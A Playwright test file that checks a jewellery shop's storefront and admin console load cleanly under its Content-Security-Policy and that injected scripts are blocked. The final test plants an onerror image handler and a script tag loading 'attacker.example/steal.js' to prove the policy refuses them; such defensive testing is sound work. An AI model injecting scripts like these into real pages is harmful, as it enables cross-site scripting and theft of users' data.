import type { Page } from 'playwright-core';

import { CONSOLE_GREETING, consolePage, useConsoleWorld } from '../admin/console-harness.js';
import { cspViolations } from '../harness/browser.js';
import { catalogueMedia } from '../storefront/storefront-catalogue.js';
import { storefrontPage } from '../storefront/storefront-harness.js';
import { braceletAtCheckout, checkShippingFee, fillCheckout, placeOrder } from '../storefront/storefront-steps.js';

/**
 * The storefront and the console work under the shop's Content-Security-Policy: their main
 * screens, and the checkout's Snap popup from the provider simulator, load without a single
 * refusal; and the policy is really there: a script injected into a page does not run.
 */
describe("the pages under the shop's Content-Security-Policy", () => {
  const world = useConsoleWorld((world) => catalogueMedia(world.shop));

  /** Opens the page, lets its pictures load (lazy ones too) and expects nothing refused. */
  async function expectCleanScreen(page: Page, path: string, ready: (page: Page) => Promise<unknown>) {
    await page.goto(`${world.shop.url}${path}`);
    await ready(page);
    await page.mouse.wheel(0, 20_000);
    await page.waitForLoadState('networkidle');
    expect({ path, refused: cspViolations(page) }).toEqual({ path, refused: [] });
  }

  const mainHeading = (page: Page) => page.getByRole('main').getByRole('heading').first().waitFor();

  it("shows the storefront's main screens without a refusal", async () => {
    const { catalogue } = world;
    const page = await storefrontPage(world.browser, world.shop, { path: '/', loggedInAs: 'csp.toko@example.com' });
    for (const path of [
      '/',
      '/necklaces',
      '/charms',
      '/giftsets',
      '/for-her',
      `/products/${catalogue.necklace}`,
      `/products-charm/${catalogue.charms[0]}`,
      '/search?q=gelang',
      '/faq',
      '/login',
    ]) {
      await expectCleanScreen(page, path, mainHeading);
    }
    await page.close();
  });

  it('pays through the Snap popup from the checkout without a refusal', async () => {
    const { page } = await braceletAtCheckout(world, 'csp.snap@example.com');
    await fillCheckout(page);
    await checkShippingFee(page);
    const popup = await placeOrder(page);
    await popup.getByRole('button', { name: 'Pay now' }).click();
    await page.waitForURL(/\/track-order\/[^/]+$/, { timeout: 20_000 });
    await page.getByRole('main').getByText('Payment Successful').waitFor();
    expect(cspViolations(page)).toEqual([]);
    await page.close();
  });

  it("shows the console's main screens without a refusal", async () => {
    const page = await consolePage(world);
    for (const path of [
      '/adminDashboard/dashboard',
      '/adminDashboard/orders',
      '/adminDashboard/products',
      '/adminDashboard/products/create',
      '/adminDashboard/charms',
      '/adminDashboard/giftsets',
      '/adminDashboard/discount',
      '/adminDashboard/photoGallery',
      '/adminDashboard/pageBanner',
    ]) {
      await expectCleanScreen(page, path, (page) => page.getByText(CONSOLE_GREETING).waitFor());
    }
    await page.close();
  });

  it('refuses a script injected into a page, and reports it', async () => {
    const page = await storefrontPage(world.browser, world.shop, { path: '/faq' });
    await mainHeading(page);
    const ran = await page.evaluate(async () => {
      const window = globalThis as unknown as { injected?: boolean; document: any };
      const { document } = window;
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.injected = true">');
      const script = document.createElement('script');
      script.src = 'https://attacker.example/steal.js';
      document.head.appendChild(script);
      await new Promise((resolve) => setTimeout(resolve, 500));
      return window.injected === true;
    });
    expect(ran).toBe(false);
    expect(cspViolations(page)).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^script-src-attr /),
        expect.stringMatching(/^script-src-elem https:\/\/attacker\.example\/steal\.js/),
      ]),
    );
    await page.close();
  });
});
